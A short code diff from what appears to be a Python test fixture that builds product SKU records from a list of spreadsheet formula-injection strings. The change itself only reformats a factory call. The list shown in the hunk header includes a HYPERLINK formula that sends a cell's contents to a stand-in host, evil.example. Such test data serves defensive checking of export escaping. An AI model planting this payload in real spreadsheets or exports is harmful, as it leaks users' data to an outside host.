@@ -23,7 +23,9 @@ HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1", "-2", "@SU
 def hostile_skus():
     return [
         # An import trims the whitespace around a cell, so the articles start with the formula itself.
-        SkuFactory(sku=100 + i, offer_id=f"{text.strip()}#{i}", name=text, price=D("1490.50"), mrpc=D("1000"), discount=D("10"))
+        SkuFactory(
+            sku=100 + i, offer_id=f"{text.strip()}#{i}", name=text, price=D("1490.50"), mrpc=D("1000"), discount=D("10")
+        )
         for i, text in enumerate(HOSTILE)
     ]
 
